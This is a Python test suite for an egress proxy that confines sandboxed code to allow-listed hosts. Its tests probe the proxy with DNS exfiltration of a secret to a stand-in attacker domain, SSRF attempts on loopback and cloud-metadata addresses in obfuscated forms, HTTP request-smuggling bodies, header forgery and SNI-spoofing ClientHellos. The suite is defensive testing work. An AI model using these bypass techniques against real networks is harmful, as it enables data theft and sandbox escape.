"""What a neuron with egress reaches: the hosts of its rules by its own
listeners, and nothing else by anything.  The numbers are those of a list of
attempts on sandboxes of this sort.

Each is made by an attacker's code inside, against real servers that see who
comes.  The controls run the same code beside the neuron, where it works.
"""
import json
import os
import socket
import subprocess
import sys
import threading
import unittest

from egress import Attacker, EgressInstance, Net
from upstream import FORBIDDEN, PRIVATE

WEB = """
	allow host "ok.example.com";
	allow host "*.sub.example.com";
	deny host "bad.sub.example.com";
	allow host "two.example.com";
	allow host "raw.example.com" opaque;
	allow host "ssh.example.com" port 22;
	allow host "posts.example.com" method "POST";
	allow host "11.1.1.2";
	allow host "rebound.example.com";
	allow host "mixed.example.com";
	allow host "mixed6.example.com";
	allow host "alias.example.com";
	allow host "lo.example.com"; allow host "meta.example.com";
	allow host "ten.example.com"; allow host "xn--bcher-kva.example.com"
"""
NAMES = ("ok.example.com", "a.sub.example.com", "bad.sub.example.com",
         "two.example.com", "raw.example.com", "ssh.example.com",
         "posts.example.com", "evil.example.net", "dns.example.net",
         "xn--bcher-kva.example.com")


def setUpModule():
    global net, i, w
    net = Net(NAMES)
    net.names({
        "rebound.example.com": {"A": [["11.1.1.1"], ["127.0.0.1"]]},
        "mixed.example.com": ["11.1.1.1", "10.1.2.3"],
        "mixed6.example.com": ["11.1.1.1", "fd00:ec2::254"],
        "alias.example.com": {"cname": "ten.example.com"},
        "ten.example.com": ["10.1.2.3"],
        "lo.example.com": ["127.0.0.1"],
        "meta.example.com": ["169.254.169.254"]})
    try:
        i = EgressInstance(net, {
            "web": WEB, "none": "", "mute": WEB + "; transparent no",
            "inner": 'allow host "ten.example.com" private; '
                     'allow host "lo.example.com" private; '
                     'allow host "meta.example.com" private; '
                     'allow host "all.example.com" private'})
    except BaseException:
        net.close()
        raise
    w = Attacker(i)


def tearDownModule():
    w.close()
    try:
        i.stop()
    finally:
        net.close()


class Case(unittest.TestCase):
    maxDiff = 4000

    def setUp(self):
        net.forget()

    def nothing_came(self):
        self.assertEqual(net.connections(), [])

    def refused(self, r, error=None, host=None, status=403):
        self.assertEqual(r["status"], status, r)
        self.assertIsInstance(r["json"], dict, r)
        self.assertEqual(sorted(r["json"]),
                         ["detail", "error", "host", "rule"], r)
        if error is not None:
            self.assertEqual(r["json"]["error"], error, r)
        if host is not None:
            self.assertEqual(r["json"]["host"], host, r)
        self.assertLess(r.get("seconds", 0), 5)


class Route(Case):
    """40 to 47: there is one way, and who comes by it is known."""

    HOST = ("127.0.0.1", "::1", "0.0.0.0", "11.1.1.1", "2600:1234::1",
            "10.1.2.3", "172.17.0.1", "192.168.7.7", "169.254.169.254",
            "fd00:ec2::254", "100.64.0.9")

    def test_040_addresses_of_the_host(self):
        code = "[[a, p, reach(a, p)] for a in %r for p in (22, 6379, 8080)]" \
            % (self.HOST,)
        for a, p, said in net.python(code):
            self.assertEqual(said, "connected", (a, p))
        net.forget()
        for profile in ("web", "inner", "none"):
            for a, p, said in w.probe(code, profile=profile):
                self.assertIn(said, ("ECONNREFUSED", "ENETUNREACH", "EACCES",
                                     "EADDRNOTAVAIL"), (a, p))
        # nor what listens inside, 80 and 443, when it is not lo
        for a, p, said in w.probe(
                "[[a, p, reach(a, p)] for a in %r for p in (80, 443)]" % (
                    self.HOST[3:],)):
            self.assertEqual(said, "ENETUNREACH", (a, p))
        self.nothing_came()

    def test_040_addresses_by_the_proxy(self):
        """The proxy is no way round: nobody listed these addresses."""
        got = w.probe("""
out = []
for a in %r:
    literal = "[%%s]" %% a if ":" in a else a
    for p in (80, 443, 6379):
        out.append([a, "connect", tunnel(literal, p)["status"]])
        out.append([a, "socks", socks_number(a, p, kind=4 if ":" in a else 1)])
        out.append([a, "socks name", socks_number(a, p)])
    out.append([a, "get", get("http://%%s/ok" %% literal)["status"]])
    out.append([a, "plain", ask("GET /ok HTTP/1.1\\r\\nHost: %%s\\r\\n\\r\\n"
        %% literal, to=("127.0.0.1", 80))["status"]])
out""" % ([a for a in self.HOST if a != "11.1.1.2"],))
        for a, how, said in got:
            if how.startswith("socks"):
                self.assertGreater(said, 0, (a, how))
            else:
                self.assertIn(said, (400, 403), (a, how))
        self.nothing_came()

    def test_041_names_by_the_back_door(self):
        secret = "x2vjcmv0.evil.example.net"
        # the control: beside the neuron the name gets out, and is seen
        out = net.python("dns(%r, to=('11.0.0.53', 53))" % secret)
        self.assertEqual(out["code"], 3)
        self.assertIn(secret, net.queries())
        net.forget()
        got = w.probe("""
out = {}
out["away"] = [dns(%(s)r, to=(a, 53), seconds=1)
               for a in ("11.0.0.53", "11.1.1.1", "224.0.0.251")]
out["tcp"] = [reach(a, 53) for a in ("11.0.0.53", "127.0.0.1", "127.0.0.53")]
out["mine"] = [dns(%(s)r, kind) for kind in (1, 28, 16, 15, 255)]
out["below"] = [dns("secret.ok.example.com"), dns("evil.example.net")]
out["doh"] = tunnel("dns.example.net")["status"]
out["doh address"] = tunnel("11.1.1.1")["status"]
out["kinds"] = []
for kind, proto in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1),
        (socket.SOCK_RAW, 255), (socket.SOCK_STREAM, 132),
        (socket.SOCK_SEQPACKET, 132), (socket.SOCK_DGRAM, 136)):
    out["kinds"].append([kind, proto, reach("11.1.1.1", 53, kind, proto)])
out""" % {"s": secret})
        for r in got["away"]:
            self.assertIn("error", r)
        self.assertEqual(got["tcp"][0], "ENETUNREACH")
        for r in got["mine"] + got["below"]:
            self.assertEqual(r, {"code": 5, "addresses": []})
        self.assertEqual((got["doh"], got["doh address"]), (403, 403))
        for kind, proto, said in got["kinds"]:
            self.assertNotEqual(said, "connected", (kind, proto))
        self.assertEqual(net.queries(), [])
        self.nothing_came()

    def test_042_other_transports(self):
        code = """
def fastopen():
    with socket.socket() as s:
        try:
            s.sendto(b"GET /ok HTTP/1.0\\r\\n\\r\\n", 0x20000000,
                     ("11.1.1.1", 8080))
            return "sent"
        except OSError as e:
            return word(e)
[reach("11.1.1.1", 8080, proto=262), fastopen()]"""
        mptcp, fast = net.python(code)
        self.assertEqual(fast, "sent")
        self.assertIn(mptcp, ("connected", "EPROTONOSUPPORT", "ENOPROTOOPT"))
        net.forget()
        mptcp, fast = w.probe(code)
        self.assertIn(mptcp, ("EPERM", "EACCES", "EPROTONOSUPPORT",
                              "EAFNOSUPPORT"))
        self.assertNotEqual(fast, "sent")
        self.nothing_came()

    def test_043_unix_sockets(self):
        """Of the namespace that the service runs in, and of a workspace."""
        path = os.path.join(w.path, "sock")
        p = subprocess.Popen(net.prefix() + [
            sys.executable, "-c",
            "import socket, sys, os, threading\n"
            "a, b = socket.socket(socket.AF_UNIX), socket.socket("
            "socket.AF_UNIX)\n"
            "a.bind('\\0myelin-egress-test'); b.bind(%r)\n"
            "a.listen(); b.listen(); os.chmod(%r, 0o777)\n"
            "print('up', flush=True)\nsys.stdin.read()" % (path, path)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        try:
            self.assertEqual(p.stdout.readline(), b"up\n")
            code = """
def try_it(name):
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(name)
            return "connected"
    except OSError as e:
        return word(e)
[try_it("\\0myelin-egress-test"), try_it(%r)]""" % path
            self.assertEqual(net.python(code), ["connected", "connected"])
            for said in w.probe(code):
                self.assertIn(said, ("EPERM", "EACCES", "ECONNREFUSED",
                                     "EAFNOSUPPORT", "ENOENT"))
        finally:
            p.stdin.close()
            p.wait(timeout=10)
            p.stdout.close()
            if os.path.exists(path):
                os.unlink(path)

    def test_044_other_families(self):
        code = """
def make(*args):
    try:
        socket.socket(*args).close()
        return "made"
    except OSError as e:
        return word(e)
# packet, netlink but route, alg, vsock, xdp, tipc, kcm, and two unknown
[make(17, socket.SOCK_RAW, 0), make(16, socket.SOCK_RAW, 4),
 make(16, socket.SOCK_RAW, 15)] + [make(f, t, 0) for f in
 (38, 40, 44, 30, 41, 45, 60) for t in (socket.SOCK_STREAM,
 socket.SOCK_SEQPACKET, socket.SOCK_RAW)]"""
        self.assertIn("made", net.python(code)[:3])
        self.assertNotIn("made", w.probe(code))

    def test_045_without_the_proxy(self):
        """A client that knows no proxy reaches what the rules say, by names
        alone, and nothing if the profile is not for that."""
        code = """
out = {"direct": [reach("11.1.1.1", p) for p in (80, 443, 22)]}
a = dns("ok.example.com")
out["name"] = a
at = (a.get("addresses") or ["127.64.0.1"])[0]
out["tls"] = straight(at, "ok.example.com")
out["plain"] = ask("GET /ok HTTP/1.1\\r\\nHost: ok.example.com\\r\\n"
    "Connection: close\\r\\n\\r\\n", to=(at, 80)) if a.get("addresses") else {}
out["other"] = straight(at, "evil.example.net", verify=False)
out["ports"] = [reach(at, p) for p in (22, 25, 8080)]
out["unknown"] = straight("127.64.7.7", "evil.example.net", verify=False)
out"""
        got = w.probe(code)
        self.assertEqual(got["direct"], ["ENETUNREACH"] * 3)
        self.assertEqual(got["name"]["code"], 0)
        self.assertRegex(got["name"]["addresses"][0],
                         r"^127\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.")
        self.assertEqual(got["tls"].get("body"), "ok from ok.example.com\n")
        self.assertEqual(got["plain"].get("body"), "ok from ok.example.com\n")
        self.assertEqual(got["other"]["status"], 0)
        self.assertEqual(got["unknown"]["status"], 0)
        self.assertEqual(got["ports"], ["ECONNREFUSED"] * 3)
        self.assertEqual({c["to"] for c in net.connections()}, {"11.1.1.1"})
        self.assertEqual({r[2] for r in net.requests()}, {"ok.example.com"})
        net.forget()
        got = w.probe(code, profile="mute")
        self.assertEqual(got["direct"], ["ENETUNREACH"] * 3)
        self.assertNotIn("code", got["name"])
        self.assertEqual(got["tls"]["status"], 0)
        self.nothing_came()

    def test_046_not_listed(self):
        # the control: there it is
        self.assertEqual(net.python(
            "straight('11.1.1.1', 'evil.example.net')")["status"], 200)
        net.forget()
        for profile in ("web", "none"):
            got = w.probe("""
host = "evil.example.net"
[tunnel(host), get("http://%s/ok" % host), tunnel(host, 80),
 socks_number(host), straight("127.0.0.1", host, verify=False),
 ask("GET /ok HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % host,
     to=("127.0.0.1", 80)), dns(host)]""",
                profile=profile)
            for n in (0, 1, 2, 5):
                self.refused(got[n], "not_listed", "evil.example.net")
            self.assertEqual(got[3], 2)
            self.assertEqual(got[4]["status"], 0)
            self.assertEqual(got[6], {"code": 5, "addresses": []})
        # nothing that is listed either, where nothing is
        self.refused(w.probe("tunnel('ok.example.com')", profile="none"),
                     "not_listed")
        self.assertEqual(net.queries(), [])
        self.nothing_came()

    def test_047_who_asks(self):
        """By which listener he comes decides, whatever he says he is."""
        forged = ("Proxy-Authorization: Basic d2ViOnNlY3JldA==\\r\\n"
                  "X-Forwarded-For: 127.0.0.1\\r\\nX-Myelin-Neuron: %s\\r\\n"
                  "Via: 1.1 egressd\\r\\n")
        a = i.session(profile="web", **w.fields())
        b = i.session(profile="none", **w.fields())
        try:
            name = w.probe("os.environ['MYELIN_NEURON']", session=a)
            self.assertEqual(w.probe(
                "https('ok.example.com')", session=a)["status"], 200)
            net.forget()
            got = w.probe("""
import threading
more = "%s"
def relay(s):
    c, _ = s.accept()
    p = socket.create_connection(PROXY)
    def pump(x, y):
        while (d := x.recv(4096)):
            y.sendall(d)
        y.shutdown(socket.SHUT_WR)
    threading.Thread(target=pump, args=(p, c), daemon=True).start()
    pump(c, p)
s = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=relay, args=(s,), daemon=True).start()
relayed = ask("CONNECT ok.example.com:443 HTTP/1.1\\r\\n"
    "Host: ok.example.com\\r\\n\\r\\n", to=s.getsockname())
[tunnel("ok.example.com", more=more), relayed,
 get("http://ok.example.com/ok", more=more),
 socks_number("ok.example.com", method=b"\\x05\\x01\\x02")]""" %
                forged % name, session=b)
            self.refused(got[0], "not_listed")
            self.refused(got[1], "not_listed")
            self.refused(got[2], "not_listed")
            self.assertLess(got[3], 0)
            self.nothing_came()
        finally:
            for s in (a, b):
                i.request("DELETE", "/v1/sessions/" + s)


class Names(Case):
    """48 to 50: a name is one host, however it is written."""

    # what a host may look like, and what it is: 200, 403 or 400
    HOSTS = (
        (b"ok.example.com", 200), (b"OK.Example.COM", 200),
        (b"ok.example.com.", 200),
        (b"ok.example.com.evil.example.net", 403),
        (b"evil.example.net.", 403), (b"xok.example.com", 403),
        (b"example.com", 403), (b"sub.example.com", 403),
        (b"xsub.example.com", 403), (b"bad.sub.example.com", 403),
        (b"BAD.sub.example.com.", 403),
        (b"evil.example.net\0.ok.example.com", 400),
        (b"ok.example.com\0.evil.example.net", 400),
        (b"ok.example.com@evil.example.net", 400),
        (b"user@ok.example.com", 400), (b"user:pw@ok.example.com", 400),
        (b"evil.example.net%2eok.example.com", 400),
        (b"ok%2eexample.com", 400), (b"evil.example.net%00.ok.example.com",
                                     400),
        (b"ok.example.com..", 400), (b".ok.example.com", 400),
        (b"ok..example.com", 400), (b"[ok.example.com]", 403),
        (b"evil.example.net\t.sub.example.com", 400),
        (b"evil.example.net .sub.example.com", 400),
        (b"evil.example.net/.sub.example.com", 400),
        (b"evil.example.net#.sub.example.com", 400),
        (b"evil.example.net?.sub.example.com", 400),
        (b"evil.example.net\\.sub.example.com", 400),
        (b"a" * 64 + b".sub.example.com", 400),
        (b".".join([b"a" * 60] * 4) + b".sub.example.com", 400),
        # bytes, not letters: what a name in another encoding looks like
        (b"\xff\xfe.sub.example.com", 400), (b"", 400), (b".", 400))
    # UTF-8 becomes A-labels, with the dots of other scripts
    UTF8 = (("b\u00fccher.example.com", 200),
            ("B\u00dcCHER\u3002example.com", 200),
            ("ok\uff0eexample\uff61com", 200),
            ("\u13c3k.example.com", 403), ("ok.example.c\u043em", 403),
            ("\uff45vil.example.net", 403))

    def test_048_names(self):
        hosts = list(self.HOSTS) + [(h.encode(), s) for h, s in self.UTF8]
        got = w.probe("""
out = []
for host in %r:
    out.append([tunnel(host)["status"],
        ask(b"GET http://" + host + b"/ok HTTP/1.1\\r\\nHost: " + host +
            b"\\r\\nConnection: close\\r\\n\\r\\n")["status"],
        socks_number(host) if 0 < len(host) < 256 else None])
out""" % ([h for h, _ in hosts],))
        for (host, want), (tunnel, get, socks) in zip(hosts, got):
            # what can't be in a request's line at all is 400 before its host
            self.assertEqual(tunnel, want, host)
            self.assertEqual(get, want, host)
            if socks is not None:
                self.assertEqual(socks == 0, want == 200, (host, socks))
        self.assertEqual({r[2].lower().rstrip(".") for r in net.requests()},
                         {h.decode().lower().rstrip(".") for h, s in
                          hosts if s == 200 and h.isascii()} | {
                              r[2].lower().rstrip(".") for r in net.requests()
                              if not r[2].isascii() or "xn--" in r[2]})
        self.assertLessEqual(set(net.queries()), {
            "ok.example.com", "xn--bcher-kva.example.com"})

    def test_048_lines_and_fields(self):
        """CR, LF and NUL in a request's line; a Host of its own."""
        got = w.probe("""
out = [raw(b)[0] for b in (
    b"CONNECT ok.example.com\\r\\nX: y:443 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com\\n:443 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com:443\\0 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com:443 HTTP/1.1 x\\r\\n\\r\\n",
    b"CONNECT ok.example.com:0443x HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com:65979 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com:-1 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT http://ok.example.com:443/ HTTP/1.1\\r\\n\\r\\n",
    b"GET http://ok.example.com/ok HTTP/1.1\\r\\nHost: ok.example.com\\r\\n"
    b"Host: evil.example.net\\r\\n\\r\\n",
    b"GET ftp://ok.example.com/ok HTTP/1.1\\r\\n\\r\\n",
    b"GET https://ok.example.com/ok HTTP/1.1\\r\\n\\r\\n",
    b"GET /ok HTTP/1.1\\r\\nHost: ok.example.com\\r\\n\\r\\n")]
[response(o)["status"] for o in out]""")
        for n, status in enumerate(got):
            self.assertIn(status, (400, 403, 501), n)
        self.nothing_came()

    FORMS = ("2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "127.1",
             "127.0.1", "017700000001", "127.0.0.1.", "127.000.000.001",
             "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::a9fe:a9fe]",
             "[64:ff9b:1::7f00:1]", "[2002:7f00:1::]", "[2001::1]",
             "[fe80::1%lo]", "[fe80::1%25lo]", "[::]", "[::1]", "[fd12::1]",
             "[ff02::1]", "0.0.0.0", "0", "100.64.0.9", "240.0.0.1",
             "255.255.255.255", "224.0.0.1", "198.18.0.1", "192.0.2.1",
             "0xa9fea9fe", "169.254.169.254", "2852039166",
             "0251.0376.0251.0376",
             "[::ffff:a9fe:a9fe]", "[0:0:0:0:0:ffff:7f00:1]",
             "\uff11\uff12\uff17.0.0.1", "\u2460\u2461\u2466.0.0.1",
             "[::1", "::1", "::ffff:127.0.0.1", "11.1.1.1", "[2600:1234::1]",
             "0xb.1.1.1", "184615169")

    def test_049_forms_of_addresses(self):
        got = w.probe("""
out = []
for form in %r:
    b = form.encode()
    out.append([form, tunnel(b)["status"],
        ask(b"GET http://" + b + b"/ok HTTP/1.1\\r\\nHost: " + b +
            b"\\r\\n\\r\\n")["status"], socks_number(b)])
out""" % (self.FORMS,))
        for form, tunnel, get, socks in got:
            self.assertIn(tunnel, (400, 403), form)
            self.assertIn(get, (400, 403), form)
            self.assertNotEqual(socks, 0, form)
        self.assertEqual(net.queries(), [])
        self.nothing_came()

    def test_049_a_rule_that_names_an_address(self):
        """Exactly that one, in its usual form."""
        got = w.probe("""
[get("http://11.1.1.2/ok")["status"], get("http://11.1.1.1/ok")["status"],
 get("http://0xb.1.1.2/ok")["status"],
 get("http://[::ffff:11.1.1.2]/ok")["status"],
 socks_number("11.1.1.2", 80, kind=1)]""")
        self.assertEqual(got[:2], [200, 403])
        self.assertIn(got[2], (400, 403))
        self.assertIn(got[3], (400, 403))
        self.assertEqual(got[4], 0)
        self.assertEqual({c["to"] for c in net.connections()}, {"11.1.1.2"})

    def test_050_addresses_of_names(self):
        """One that may not be reached among them refuses them all."""
        code = """
out = []
for host in ("mixed", "mixed6", "alias", "ten", "lo", "meta"):
    host += ".example.com"
    out.append([host, tunnel(host), get("http://%s/ok" % host),
        socks_number(host), straight("127.0.0.1", host, verify=False)])
out"""
        for host, *got in w.probe(code):
            self.refused(got[0], "address", host)
            self.refused(got[1], "address", host)
            self.assertEqual(got[2], 2, host)
            self.assertEqual(got[3]["status"], 0, host)
        self.nothing_came()
        # what would have been reached: the control
        self.assertEqual(net.python(
            "ask('GET /ok HTTP/1.0\\r\\nConnection: close\\r\\n\\r\\n', "
            "to=('10.1.2.3', 80))")[
                "status"], 200)

    def test_050_every_forbidden_address(self):
        """As the answer of a resolver, in either family."""
        mapped = ["::ffff:127.0.0.1", "::ffff:169.254.169.254", "::127.0.0.1",
                  "::1", "::", "0.0.0.0", "127.8.9.10", "fe80::1", "ff02::1",
                  "224.0.0.1", "255.255.255.255", "64:ff9b::7f00:1",
                  "2002:a9fe:a9fe::1", "::ffff:0:127.0.0.1"]
        for group, profile in ((FORBIDDEN + tuple(mapped), "inner"),
                               (PRIVATE, "web")):
            addresses = list(group)
            host = "all.example.com" if profile == "inner" else \
                "all.sub.example.com"
            for a in addresses:
                net.names({host: [a]})
                r = w.probe("get('http://%s/ok')" % host, profile=profile)
                with self.subTest(address=a):
                    self.refused(r, "address", host)
            self.nothing_came()

    def test_050_private_where_a_rule_says_so(self):
        got = w.probe("""
[get("http://%s.example.com/ok" % h)["status"] for h in
 ("ten", "lo", "meta")]""", profile="inner")
        self.assertEqual(got, [200, 403, 403])
        self.assertEqual([c["to"] for c in net.connections()], ["10.1.2.3"])

    def test_050_rebinding(self):
        """What was looked at is what is dialled: there is one answer."""
        for n in range(3):
            net.names({"rebound.example.com": {
                "A": [["11.1.1.1"], ["127.0.0.1"]]}})
            net.forget()
            got = w.probe("https('rebound.example.com', path='/ok')")
            self.assertEqual(got["status"], 200, got)
            self.assertEqual([c["to"] for c in net.connections()],
                             ["11.1.1.1"])
            again = w.probe("https('rebound.example.com', path='/ok')")
            # either the first answer is still known or the second is refused
            self.assertIn(again["status"], (200, 403))
            self.assertEqual({c["to"] for c in net.connections()},
                             {"11.1.1.1"})


class Tls(Case):
    """51: what is said inside a tunnel is what it was opened for."""

    def test_051_another_name(self):
        # the control: the server answers to that name
        self.assertEqual(net.python(
            "straight('11.1.1.1', 'evil.example.net')")["status"], 200)
        net.forget()
        got = w.probe("""
[https("ok.example.com"), https("ok.example.com", "evil.example.net",
 verify=False), https("ok.example.com", "two.example.com", verify=False),
 https("ok.example.com", "OK.EXAMPLE.COM", verify=False)]""")
        self.assertEqual(got[0]["status"], 200)
        self.assertEqual(got[1]["status"], 0)
        # listed, but not what was asked for
        self.assertEqual(got[2]["status"], 0)
        self.assertEqual(got[3]["status"], 200)
        self.assertEqual({c["sni"].lower() for c in net.connections()
                          if c["sni"]}, {"ok.example.com"})

    def test_051_hellos_by_hand(self):
        got = w.probe("""
ok, evil = b"ok.example.com", b"evil.example.net"
h = hello(sni(ok))
big = hello(sni(ok), pad=9000)
late = hello(extension(21, bytes(14000)), sni(ok))
out = {}
host = "ok.example.com"
out["whole"] = handshake(host, [h])
out["bytes"] = handshake(host, [bytes([b]) for b in h])
out["two"] = handshake(host, [h[:7], h[7:]])
out["records"] = handshake(host, [records(h, 40)])
out["big"] = handshake(host, [big])
out["late"] = handshake(host, [late[:5000], late[5000:]])
out["evil"] = handshake(host, [hello(sni(evil))])
out["evil records"] = handshake(host, [records(hello(sni(evil)), 40)])
out["evil bytes"] = handshake(host, [bytes([b]) for b in hello(sni(evil))])
out["none"] = handshake(host, [hello()])
out["two names"] = handshake(host, [hello(sni(ok, evil))])
out["two extensions"] = handshake(host, [hello(sni(ok), sni(evil))])
out["nul"] = handshake(host, [hello(sni(ok + b"\\0." + evil))])
out["empty"] = handshake(host, [hello(sni(b""))])
out["ech"] = handshake(host, [hello(sni(ok), extension(0xfe0d, b"\\0" +
    bytes(40)))])
out["huge"] = handshake(host, [records(hello(sni(ok), pad=40000), 16000)])
out["not tls"] = handshake(host, [b"GET / HTTP/1.1\\r\\nHost: ok\\r\\n\\r\\n"])
out["ssh"] = handshake(host, [b"SSH-2.0-x\\r\\n"])
out["half"] = handshake(host, [h[:60] + evil, b"x" * 400])
out["early"] = None
s, r = connect(host, first=hello(sni(evil)))
out["early"] = "cut" if s is None else through(s, b"")[0][:1]
out""")
        for what in ("whole", "bytes", "two", "records", "big", "late"):
            self.assertEqual(got[what], "answered", what)
        for what in ("evil", "evil records", "evil bytes", "none",
                     "two names", "two extensions", "nul", "empty", "ech",
                     "huge", "not tls", "ssh", "half"):
            self.assertEqual(got[what], "cut", what)
        self.assertNotEqual(got["early"], "\x16")
        for c in net.connections():
            self.assertIn(c["sni"], ("ok.example.com", None), c)
            # what is refused never leaves: not a byte of it
            self.assertNotIn("evil.example.net", c["raw"])
            self.assertNotEqual(c["kind"], "raw")
            self.assertNotEqual(c["kind"], "http")

    def test_051_a_second_hello(self):
        """A server may ask for one, and goes by the name in that."""
        both = """
ok, evil = b"ok.example.com", b"evil.example.net"
first = hello(sni(ok), share=False)
late = b"\\x14\\x03\\x03\\0\\1\\1"
out = []
for second in (hello(sni(ok)), hello(sni(evil)), hello(),
               records(hello(sni(evil)), 40), late + hello(sni(ok)),
               late + hello(sni(evil))):
    out.append(again(through_to(), second, first))
out"""
        straight = both.replace("through_to()", "socket.create_connection("
                                "('11.1.1.1', 443), timeout=5)")
        # the control: what the server would go by
        self.assertEqual(net.python("import socket\n" + straight)[1],
                         "answered")
        self.assertIn("evil.example.net",
                      [c["sni"] for c in net.connections()])
        net.forget()
        at = """
import socket
at = dns("ok.example.com")["addresses"][0]
"""
        for way in ('connect("ok.example.com")[0]',
                    'socks("ok.example.com", 443)[0]',
                    "socket.create_connection((at, 443), timeout=5)"):
            got = w.probe(at + both.replace("through_to()", way))
            self.assertEqual(got, ["answered", "cut", "cut", "cut",
                                   "answered", "cut"], way)
        self.assertEqual({c["sni"] for c in net.connections()},
                         {"ok.example.com"})
        # one that does not wait to be asked
        got = w.probe("""
ok, evil = b"ok.example.com", b"evil.example.net"
again(connect("ok.example.com")[0], b"", hello(sni(ok), share=False),
      hello(sni(evil)))""")
        self.assertEqual(got, "cut")
        self.assertEqual({c["sni"] for c in net.connections()},
                         {"ok.example.com"})

    def test_051_opaque(self):
        got = w.probe("""
out = []
for host in ("raw.example.com", "ok.example.com"):
    s, r = connect(host)
    out.append(through(s, b"hello there")[0])
out.append(https("raw.example.com", "evil.example.net",
    verify=False)["status"])
out""")
        self.assertEqual((got[0], got[2]), ("hello there", 200))
        self.assertNotIn("hello", got[1])
        self.assertEqual([c["raw"] for c in net.connections(kind="raw")],
                         ["hello there"])

    def test_051_by_the_other_listeners(self):
        """SOCKS and 443 inside: the same name, the same refusals."""
        got = w.probe("""
out = []
for name in ("ok.example.com", "evil.example.net", None):
    s, n = socks("ok.example.com", 443)
    out.append(tls_get(s, name, "ok.example.com", verify=False)["status"])
at = dns("ok.example.com")["addresses"][0]
for name in ("ok.example.com", "two.example.com", "evil.example.net", None):
    out.append(straight(at, name, "ok.example.com", verify=False)["status"])
for data in (b"SSH-2.0-x\\r\\n", hello(), hello(sni(b"evil.example.net")),
        b"GET / HTTP/1.1\\r\\nHost: ok.example.com\\r\\n\\r\\n"):
    out.append("\\x16" in raw(data, to=(at, 443))[0][:1])
out""")
        self.assertEqual(got[:3], [200, 0, 0])
        self.assertEqual(got[3], 200)
        self.assertEqual(got[4:7], [0, 0, 0])
        self.assertEqual(got[7:], [False] * 4)
        self.assertEqual({c["sni"] for c in net.connections() if
                          c["requests"]}, {"ok.example.com"})


class Http(Case):
    """52 and 53: one verdict for each request, and ports are part of it."""

    def test_052_one_verdict_for_each_request(self):
        """On a connection that is kept alive, whichever host comes next."""
        got = w.probe("""
def one(host, path="/ok"):
    return ("GET http://%s%s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (
        host, path, host)).encode()
s = socket.create_connection(PROXY, timeout=5)
out = []
for host in ("ok.example.com", "two.example.com", "evil.example.net"):
    s.sendall(one(host))
    data = head_of(s).decode("latin-1")
    r = response(data)
    while len(r["body"]) < int(r["headers"].get("content-length", 0)):
        data += s.recv(4096).decode("latin-1")
        r = response(data)
    out.append([r["status"], r["body"] if r["status"] == 200 else r["json"]])
s.close()
# all at once
out.append(raw(one("ok.example.com") + one("evil.example.net") +
    one("two.example.com"), seconds=10)[0])
# and where no proxy was asked
at = dns("ok.example.com")["addresses"][0]
plain = lambda h: ("GET /ok HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % h).encode()
out.append(raw(plain("ok.example.com") + plain("evil.example.net"),
    to=(at, 80), seconds=10)[0])
out""")
        self.assertEqual(got[0], [200, "ok from ok.example.com\n"])
        self.assertEqual(got[1], [200, "ok from two.example.com\n"])
        self.assertEqual(got[2][0], 403)
        self.assertEqual(got[2][1]["error"], "not_listed")
        for text in got[3:]:
            self.assertIn("ok from ok.example.com", text)
            self.assertNotIn("ok from evil", text)
        self.assertNotIn("evil.example.net",
                         {r[2] for r in net.requests()})

    def test_052_unknown_framing(self):
        bodies = (
            b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"0\r\n\r\nGET http://evil.example.net/ok HTTP/1.1\r\n\r\n",
            b"Content-Length: 0\r\nContent-Length: 60\r\n\r\n"
            b"GET /smuggled HTTP/1.1\r\nHost: evil.example.net\r\n\r\n",
            b"Content-Length: 0, 5\r\n\r\nabcde",
            b"Content-Length: +5\r\n\r\nabcde",
            b"Content-Length: 0x5\r\n\r\nabcde",
            b"Content-Length : 5\r\n\r\nabcde",
            b"Content-Length: 99999999999999999999\r\n\r\nabcde",
            b"Transfer-Encoding: xchunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n",
            b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
            b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"
            b"\r\n0\r\n\r\n",
            b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
            b"X: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            b"X: y\r\n\tfolded\r\n\r\n",
            b"X: y\nContent-Length: 5\r\n\r\nabcde",
            b"X\0: y\r\n\r\n", b"X: a\0b\r\n\r\n", b"no colon\r\n\r\n")
        got = w.probe("""
out = []
for b in %r:
    out.append(raw(b"POST http://posts.example.com/echo HTTP/1.1\\r\\n"
        b"Host: posts.example.com\\r\\n" + b, seconds=10)[0])
out.append(raw(b"POST http://posts.example.com/echo HTTP/1.1\\r\\n"
    b"Host: posts.example.com\\r\\nConnection: close\\r\\n"
    b"Content-Length: 5\\r\\n\\r\\nabcde")[0])
out.append(raw(b"POST http://posts.example.com/echo HTTP/1.1\\r\\n"
    b"Host: posts.example.com\\r\\nConnection: close\\r\\n"
    b"Transfer-Encoding: chunked\\r\\n\\r\\n5\\r\\nabcde\\r\\n0\\r\\n\\r\\n")[0])
out""" % (bodies,))
        for body, text in zip(bodies, got):
            self.assertRegex(text, r"^HTTP/1\.1 (400|501) ", body)
            # closed after it: nothing that follows is looked at
            self.assertEqual(text.count("HTTP/1.1 "), 1, body)
        for text in got[-2:]:
            self.assertRegex(text, "^HTTP/1.1 200 ")
            self.assertIn('"body": "abcde"', text)
        for sni, method, host, target in net.requests():
            self.assertEqual((host, method), ("posts.example.com", "POST"))
            self.assertNotIn("smuggled", target)

    def test_052_bytes_after_connect(self):
